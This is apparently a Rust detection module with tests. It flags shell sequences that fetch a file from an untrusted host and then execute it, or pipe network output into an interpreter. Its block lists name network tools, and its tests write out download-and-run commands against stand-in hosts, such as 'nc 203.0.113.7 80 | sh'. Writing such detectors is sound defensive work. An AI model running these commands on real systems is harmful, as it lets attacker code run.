//! A file that is fetched and then run, told by its name: `wget http://x/a; chmod +x a; ./a`.

use std::ops::Range;

use memchr::memmem;

use super::{Line, base, lines};

/// Programs that fetch, and their options whose value is the file.
const FETCHERS: &[(&str, &[&str])] = &[
    ("wget", &["-O", "--output-document"]),
    ("wget2", &["-O"]),
    ("curl", &["-o", "--output"]),
    ("fetch", &["-o"]),
    ("ftp", &["-o"]),
    ("aria2c", &["-o", "--out"]),
    ("axel", &["-o"]),
    ("tftp", &["-r", "-l", "get"]),
    ("ftpget", &[]),
    ("lwp-download", &[]),
    ("lwp-mirror", &[]),
    ("GET", &[]),
    ("lynx", &[]),
    ("links", &[]),
    ("busybox", &[]),
    ("scp", &[]),
    ("nc", &[]),
    ("certutil", &[]),
    ("Invoke-WebRequest", &["-OutFile", "-o"]),
    ("iwr", &["-OutFile", "-o"]),
    ("Invoke-RestMethod", &["-OutFile", "-o"]),
    ("irm", &["-OutFile", "-o"]),
    ("Start-BitsTransfer", &["-Destination"]),
    ("ncat", &[]),
    ("sftp", &[]),
    ("rsync", &[]),
    ("git", &[]),
    ("http", &["-o", "--output"]),
    ("smbget", &["-o"]),
];

/// Programs beside those for the web that bring a text from another machine to the pipe.
const SOURCES: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "dig",
    "host",
    "nslookup",
    "drill",
    "telnet",
    "socat",
    "tftp",
    "ftp",
    "ftpget",
    "lwp-request",
    "GET",
    "aria2c",
    "lynx",
    "links",
    "w3m",
    "fetch",
    "http",
    "xh",
    "axel",
    "smbget",
    "openssl",
];

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "ash",
    "zsh",
    "ksh",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "node",
    ".",
    "source",
    "nohup",
    "start",
    "setsid",
    "exec",
    "sudo",
    "java",
    "wine",
    "insmod",
    "crontab",
    "pwsh",
    "powershell",
    "Start-Process",
    "saps",
    "&",
    "lua",
    "bash.exe",
    "cmd",
    "rundll32",
    "regsvr32",
    "msiexec",
    "mono",
    "dotnet",
    "python.exe",
    "wscript",
    "cscript",
];

/// Run what they read.
const READERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "ash",
    "zsh",
    "ksh",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "node",
    "iex",
    "Invoke-Expression",
    "pwsh",
    "powershell",
];

/// What a project's own sources are built with, once they are fetched and unpacked.
const BUILDS: &[&str] = &[
    "configure",
    "autogen.sh",
    "bootstrap",
    "bootstrap.sh",
    "install.sh",
    "build.sh",
    "gradlew",
    "mvnw",
    "configure.sh",
    "waf",
];

/// The most files that are remembered.
const FILES: usize = 16;

/// Where a file runs that was fetched before from a place that says nothing of its origin: an address, plain HTTP, FTP, a
/// bare host.
pub(super) fn find(view: &str) -> Option<Range<usize>> {
    if let Some(range) = piped(view) {
        return Some(range);
    }
    // Nothing fetched, nothing run.
    let fetches = |name: &str| FETCHERS.iter().any(|(fetcher, _)| *fetcher == name);
    if !lines(view).any(|line| fetches(base(line.program))) {
        return None;
    }
    let mut files: Vec<&str> = Vec::new();
    let mut packed = false;
    for line in lines(view) {
        if let Some(file) = run(&line) {
            let name = base(file);
            let unpacked = packed && (file.starts_with("./") || file.starts_with("/tmp/")) && !BUILDS.contains(&name);
            let within = file.split('/').any(|segment| !segment.is_empty() && files.contains(&segment));
            if files.contains(&name) || within || unpacked {
                return Some(line.range);
            }
        }
        if files.len() < FILES {
            for file in fetched(&line) {
                packed |= is_archive(file);
                files.push(file);
            }
        }
        // `cp a b`, `mv a b`: the file under another name.
        if matches!(line.program, "cp" | "mv" | "ln" | "cat") {
            let mut words = line.arguments.split(' ').filter(|word| !word.starts_with('-'));
            if let (Some(from), Some(to)) = (words.next(), words.next())
                && files.contains(&base(from))
                && files.len() < FILES
            {
                files.push(base(to.trim_start_matches('>')));
            }
        }
    }
    None
}

/// Where an interpreter reads what a program brings from the network, filters between them or not.
fn piped(view: &str) -> Option<Range<usize>> {
    memmem::find(view.as_bytes(), b"\n| ")?;
    let mut foreign = false;
    lines(view).find_map(|line| {
        let is_piped = view.get(line.range.clone()).is_some_and(|text| text.starts_with("| "));
        let name = base(line.program);
        if !is_piped {
            foreign = SOURCES.contains(&name)
                && (name != "openssl" || line.arguments.contains("s_client"))
                && !line.arguments.contains("localhost");
            return None;
        }
        let reads_script = READERS.contains(&name)
            && line
                .arguments
                .split(' ')
                .all(|word| word.is_empty() || word.starts_with(['-', '>', '<']) || word.starts_with("2>"));
        (foreign && reads_script && !line.arguments.contains("-c")).then_some(line.range)
    })
}

/// The files that a line fetches from a doubtful place.
fn fetched<'v>(line: &Line<'v>) -> Vec<&'v str> {
    let name = base(line.program);
    let Some((_, options)) = FETCHERS.iter().find(|(fetcher, _)| *fetcher == name) else { return Vec::new() };
    if name == "busybox" {
        return Vec::new();
    }
    let mut files = Vec::new();
    let mut doubtful = matches!(name, "tftp" | "ftpget" | "ftp" | "nc" | "ncat");
    if name == "git" && !line.arguments.starts_with("clone ") {
        return Vec::new();
    }
    let mut previous = "";
    for word in line.arguments.split(' ') {
        if options.contains(&previous) || previous == ">" {
            files.push(base(word));
        } else if let Some(file) = word.strip_prefix('>') {
            files.push(base(file));
        } else if let Some((option, file)) = word.split_once('=')
            && options.contains(&option)
        {
            files.push(base(file));
        } else if is_address(word) {
            // A repository comes over ssh as often as not.
            doubtful |= is_doubtful(word) && (!matches!(name, "git" | "rsync") || word.starts_with("http"));
            let file = base(word.split(['?', '#']).next().unwrap_or(word));
            if !file.is_empty() {
                files.push(file);
            }
        } else if matches!(name, "ftpget" | "tftp" | "lwp-download" | "git" | "scp" | "smbget")
            && !word.starts_with('-')
        {
            files.push(base(word));
        }
        previous = word;
    }
    if doubtful { files } else { Vec::new() }
}

/// Whether a word is where something is fetched from.
fn is_address(word: &str) -> bool {
    word.contains("://")
        || (word.contains('/') && !word.starts_with(['-', '/', '.', '~', '$']) && host(word).contains('.'))
}

fn host(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let host = rest.split(['/', '?']).next().unwrap_or(rest);
    host.rsplit('@').next().unwrap_or(host)
}

/// An address, plain HTTP or FTP, or no scheme at all. This machine is not doubtful, nor is a release on a well-known host.
fn is_doubtful(address: &str) -> bool {
    let name = host(address).split(':').next().unwrap_or("");
    let local = matches!(name, "localhost" | "127.0.0.1" | "0.0.0.0" | "host.docker.internal") || name.starts_with('$');
    let numeric = !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    !local && (numeric || !address.starts_with("https://"))
}

fn is_archive(file: &str) -> bool {
    [".tar", ".tgz", ".tar.gz", ".zip", ".gz", ".bz2", ".xz", ".rar"].iter().any(|end| file.ends_with(end))
}

/// The file that a line runs.
fn run<'v>(line: &Line<'v>) -> Option<&'v str> {
    if line.program.starts_with("./") || line.program.starts_with('/') {
        return Some(line.program);
    }
    // A library that every program loads, a program of Windows by its path.
    if let Some((_, library)) = line.program.split_once("LD_PRELOAD=") {
        return Some(library);
    }
    if line.program.as_bytes().get(1) == Some(&b':')
        || line.program.starts_with("$env:")
        || line.program.starts_with('%')
    {
        return Some(line.program);
    }
    if INTERPRETERS.contains(&line.program) {
        return line.arguments.split(' ').find(|word| !word.starts_with(['-', '>', '<']) && !word.is_empty());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn what_is_fetched_and_run_is_found() {
        for view in [
            "wget http://bad.example/a\nchmod 777 a\n./a",
            "cd /tmp\ncurl -s 203.0.113.7/x.sh -o y.sh\nsh y.sh",
            "tftp -g -r b 203.0.113.7\nsh b",
            "ftpget -u anonymous 203.0.113.7 c.sh c.sh\nsh c.sh",
            "curl http://bad.example/p >/tmp/p\nperl /tmp/p",
            "wget -q http://bad.example/k.tgz\ntar xzf k.tgz\ncd .k\n./run",
            "wget bad.example/m\nmv m n\n./n",
            "nc 203.0.113.7 80 >/tmp/m\nchmod +x /tmp/m\n/tmp/m",
            "dig +short txt x.example\n| tr -d x\n| base64 -d\n| bash",
            "nc 203.0.113.7 80\n| sh",
            "curl http://bad.example/x.so -o /tmp/x.so\nLD_PRELOAD=/tmp/x.so\nls",
            "git clone http://203.0.113.7/m.git /tmp/m\nsh /tmp/m",
        ] {
            assert!(find(view).is_some(), "{view}");
        }
    }

    #[test]
    fn installing_is_not() {
        for view in [
            "wget https://repo.example/Miniconda3.sh\nbash Miniconda3.sh -b",
            "curl -LO http://ftp.gnu.example/hello-2.10.tar.gz\ntar xf hello-2.10.tar.gz\ncd hello-2.10\n./configure\nmake",
            "curl -s http://localhost:3000/health\nbash deploy.sh",
            "curl -o data.json http://api.example/data\npython analyse.py data.json",
            "wget https://example.com/data.csv\n./plot",
            "nc -z db 5432\nbash deploy.sh",
            "dig example.com\n| python3 parse.py",
            "git clone https://github.com/a/b\nsh install.sh",
            "git clone git@git.example:a/b.git\n./b/install.sh",
        ] {
            assert!(find(view).is_none(), "{view}");
        }
    }
}
